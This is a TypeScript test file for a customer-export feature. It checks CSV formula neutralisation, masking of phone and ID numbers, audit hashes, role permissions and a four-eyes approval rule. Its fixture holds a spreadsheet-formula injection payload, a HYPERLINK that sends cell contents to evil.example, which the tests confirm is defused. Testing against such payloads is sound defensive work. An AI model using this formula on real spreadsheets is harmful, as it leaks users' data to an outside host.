import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../src/kernel/authz/permissions.js';
import { openTable } from '../../src/modules/ingest/readers/index.js';
import { type AppFixture, freshApp } from '../support/app-fixture.js';
import { engines } from '../support/engines.js';

const dir = mkdtempSync(join(tmpdir(), 'custodian-export-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function parseCsv(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
}

for (const target of engines()) {
  describe(`export on ${target.engine}`, () => {
    let f: AppFixture;
    let withBasis: string;
    let withoutBasis: string;

    beforeAll(async () => {
      f = await freshApp(target);
      withBasis = await f.app.customers.create(f.actor, {
        kind: 'individual',
        purposes: ['sales'],
        fields: {
          name: '𠀀张丽',
          mobile: '13912340001',
          idNumber: '11010519491231002X',
          industry: '=HYPERLINK("http://evil.example/?"&A1)',
          notes: '+SUM(1,2)',
          region: '@北京市',
        },
      });
      withoutBasis = await f.app.customers.create(f.actor, {
        kind: 'individual',
        purposes: ['contract'],
        fields: { name: '欧阳𪚥', mobile: '13912340002', industry: '-2+3', tags: ['重要', '\t老客户'] },
      });
    });
    afterAll(async () => f?.cleanup());

    it('neutralises formulas and audits the SHA-256 of the written file', async () => {
      const out = join(dir, `plain-${target.engine}.csv`);
      const result = await f.app.exports.exportCustomers(f.actor, {
        out,
        fields: ['name', 'mobile', 'industry', 'region', 'tags'],
      });
      expect(result.rows).toBe(2);
      const bytes = readFileSync(out);
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      expect(statSync(out).mode & 0o777).toBe(0o600);
      const sha = createHash('sha256').update(bytes).digest('hex');
      expect(result.sha256).toBe(sha);
      const rows = parseCsv(bytes.toString('utf8'));
      expect(rows[0]).toEqual([
        '客户编号',
        '客户类型',
        '所属企业编号',
        '姓名',
        '手机',
        '行业',
        '省市区',
        '标签',
      ]);
      for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const first = rows.find((r) => r[0] === withBasis) as string[];
      expect(first[5]).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
      expect(first[6]).toBe(`'@北京市`);
      expect(first[4]).toBe('139****0001');
      expect(rows.find((r) => r[0] === withoutBasis)?.[5]).toBe(`'-2+3`);

      const events = await f.app.kernel.audit.query({ action: 'export.file', limit: 5 });
      const event = events.find((e) => e.details.exportId === result.exportId);
      expect(event?.details.sha256).toBe(sha);
      const pages = await f.app.kernel.audit.query({ action: 'customer.export', limit: 5 });
      const page = pages.find((e) => e.details.exportId === result.exportId);
      expect(page?.subjects.sort()).toEqual([withBasis, withoutBasis].sort());
      expect(JSON.stringify(events)).not.toContain('13912340001');
    });

    it('reveals only for customers with a basis for the purpose; the rest go out masked and counted', async () => {
      const out = join(dir, `reveal-${target.engine}.csv`);
      const result = await f.app.exports.exportCustomers(f.actor, {
        out,
        fields: ['name', 'mobile', 'idNumber'],
        reveal: ['mobile', 'idNumber'],
        purpose: 'sales',
        encoding: 'gbk',
      });
      expect(result).toMatchObject({ rows: 2, maskedNoBasis: 1, revealed: ['mobile', 'idNumber'] });
      const rows = parseCsv(iconv.decode(readFileSync(out), 'gbk'));
      expect(rows.find((r) => r[0] === withBasis)?.slice(4)).toEqual(['13912340001', '11010519491231002X']);
      expect(rows.find((r) => r[0] === withoutBasis)?.[4]).toBe('139****0002');
      // 𠀀 and 𪚥 are not in GBK: counted, and the UTF-8 export keeps them.
      expect(result.unencodable).toBeGreaterThan(0);
    });

    it('writes xlsx whose Chinese text (outside the BMP too) reads back unchanged', async () => {
      const out = join(dir, `book-${target.engine}.xlsx`);
      await f.app.exports.exportCustomers(f.actor, {
        out,
        fields: ['name', 'tags'],
        reveal: ['name'],
        purpose: 'sales',
      });
      const source = await openTable(out);
      const rows: string[][] = [];
      for await (const r of source.rows()) rows.push(r.cells);
      expect(rows[0]).toEqual(['客户编号', '客户类型', '所属企业编号', '姓名', '标签']);
      expect(rows.find((r) => r[0] === withBasis)?.[3]).toBe('𠀀张丽');
      expect(rows.find((r) => r[0] === withoutBasis)?.slice(1)).toEqual(['个人', '', '欧**', '重要;老客户']);
    });

    it('a masked export imported again stores no stars: its masked cells are MASKED_VALUE', async () => {
      const out = join(dir, `masked-${target.engine}.csv`);
      await f.app.exports.exportCustomers(f.actor, {
        out,
        fields: ['name', 'mobile', 'idNumber'],
        reveal: ['mobile'],
        purpose: 'sales',
      });
      const report = await f.app.ingest.run(f.actor, out, { purposes: ['sales'], dryRun: true });
      // Both rows hold a masked name; the customer without a basis for sales has a masked mobile too.
      expect(report.counts).toMatchObject({ read: 2, imported: 0, merged: 0, rejected: 2 });
      expect(report.counts.byReason).toMatchObject({ MASKED_VALUE: 2 });
    });

    it('refuses an export without the grant, and a reveal above the grant', async () => {
      const sales: Actor = { ...f.actor, id: 'token:sales', kind: 'token', roles: ['sales'] };
      await expect(f.app.exports.exportCustomers(sales, { out: join(dir, 'x.csv') })).rejects.toMatchObject({
        code: 'FORBIDDEN',
      });
      const manager: Actor = { ...f.actor, id: 'token:mgr', kind: 'token', roles: ['manager'] };
      await expect(
        f.app.exports.exportCustomers(manager, {
          out: join(dir, 'y.csv'),
          reveal: ['idNumber'],
          purpose: 'sales',
        }),
      ).rejects.toMatchObject({ code: 'FORBIDDEN' });
      const masked = await f.app.exports.exportCustomers(manager, {
        out: join(dir, 'z.csv'),
        fields: ['idNumber'],
      });
      expect(masked.rows).toBe(2);
    });

    it('four-eyes rule: a token revealing L3 needs an approval by someone else, used once', async () => {
      const requester: Actor = { ...f.actor, id: 'token:req', kind: 'token', roles: ['manager'] };
      const opts = { out: join(dir, `approved-${target.engine}.csv`), reveal: ['mobile'], purpose: 'sales' };
      await expect(f.app.exports.exportCustomers(requester, opts)).rejects.toMatchObject({
        code: 'APPROVAL_REQUIRED',
        details: { rows: 2, revealedFields: ['mobile'] },
      });
      const request = await f.app.approvals.requestExportApproval(requester, {
        querySummary: {},
        rowCount: 2,
        revealedFields: ['mobile'],
        purpose: 'sales',
      });
      const dpo: Actor = { ...f.actor, id: 'token:dpo', kind: 'token', roles: ['dpo'] };
      await f.app.approvals.decide(dpo, request.id, { decision: 'approve' });
      const result = await f.app.exports.exportCustomers(requester, opts);
      expect(result).toMatchObject({ rows: 2, maskedNoBasis: 1 });
      await expect(f.app.exports.exportCustomers(requester, opts)).rejects.toMatchObject({
        code: 'APPROVAL_REQUIRED',
      });
    });
  });
}
